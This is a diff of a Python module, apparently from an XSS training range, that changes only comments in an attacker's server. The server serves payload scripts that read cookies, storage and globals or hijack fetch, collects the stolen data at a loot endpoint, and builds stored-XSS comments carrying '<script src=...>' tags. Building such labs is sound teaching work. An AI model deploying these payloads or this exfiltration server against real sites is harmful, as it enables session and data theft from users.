@@ -1,4 +1,4 @@
-"""The attacker's server for XSS: it serves the scripts, and collects what they send home."""
+"""The attacker's server for XSS. It serves the scripts and collects what they send."""
 
 import json
 import re
@@ -16,23 +16,23 @@ from attack_range.weak.xss import ROOT
 SCRIPTS = Path(__file__).parent / "xss_scripts"
 PAYLOADS = {
     "read": "Reads every storage, every global variable and document.cookie",
-    "patch": "Puts a fetch of its own in the place of the page's, and waits for the page's next call",
-    "ride": "Steals nothing, and changes the delivery address from inside the page",
-    "refresh": "Calls the refresh endpoint, which gets its cookie by itself",
+    "patch": "Replaces fetch by its own function, and waits for the page's next call",
+    "ride": "Steals nothing, but changes the delivery address from inside the page",
+    "refresh": "Calls the refresh endpoint, to which the browser sends the cookie",
 }
 VENDOR = "vendor"
 GOODS_MAX, LENGTH_MAX = 30, 8000
-# What arrived without an attempt: what a person has stolen by hand, the latest first.
+# What arrived without an attempt, which a person has stolen by hand. The latest comes first.
 GOODS: deque[dict[str, str]] = deque(maxlen=GOODS_MAX)
-# Any page of the web can send a report here, and a person copies parts of it into a shell.
+# Any page on the web can send a report here, and a person may copy parts of it into a shell.
 SAFE = re.compile(r"[\w./ -]{1,4000}")
 
 
 def script(name: str, nonce: str, inside: bool = False) -> str:
-    """A script of the attacker, which reports to this server for the attempt.
+    """The text of an attacker's script that reports to this server for the attempt.
 
-    `inside` is for a script that is assumed to run in the project's own page: it does not wait for the shop's states,
-    and sends the goods by leaving for the attacker's page, for the policy refuses every other way.
+    `inside` is for a script that is assumed to run in the project's own page. Such a script does not wait for states of
+    the shop's page. It sends its report by navigating to this server, because the policy refuses every other way.
     """
     constants = {
         "HOME": f"{hosts.origin(hosts.ATTACKER)}/xss/loot?attempt={nonce}",
@@ -48,7 +48,7 @@ def _source(name: str) -> str:
 
 
 def serve(request: HttpRequest, name: str) -> HttpResponse:
-    """A script, as a page of another site may load it."""
+    """A script that a page of another site can load. 404 for an unknown name."""
     if name not in (*PAYLOADS, VENDOR):
         raise Http404
     text = script(name, request.GET.get("attempt", ""))
@@ -56,7 +56,7 @@ def serve(request: HttpRequest, name: str) -> HttpResponse:
 
 
 def loot(request: HttpRequest) -> HttpResponse:
-    """Keeps what a script sends: in the body, or in the address when it had to leave its page."""
+    """Stores what a script sends in the body, or in the query when the script navigates here."""
     text = request.GET.get("goods") or request.body.decode(errors="replace")
     attempt = attempts.find(request.GET.get("attempt", ""))
     if attempt and len(attempt.loot) < GOODS_MAX:
@@ -78,12 +78,12 @@ def _read(text: str) -> list[dict[str, str]]:
 
 
 def ran(request: HttpRequest) -> HttpResponse:
-    """Only says that a payload ran: the request itself is recorded."""
+    """A payload that runs requests this address. The attempt's record of the request shows that it ran."""
     return HttpResponse(status=204)
 
 
 def page(request: HttpRequest) -> HttpResponse:
-    """For a person who does it by hand: comments to send, and what came home."""
+    """For a person who attacks by hand: comments to send, and what was stolen."""
     home = f"{hosts.origin(hosts.ATTACKER)}/xss/"
     comments = [(what, f'Lovely mug!<script src="{home}{name}.js"></script>') for name, what in PAYLOADS.items()]
     victim = hosts.origin(hosts.VICTIM)
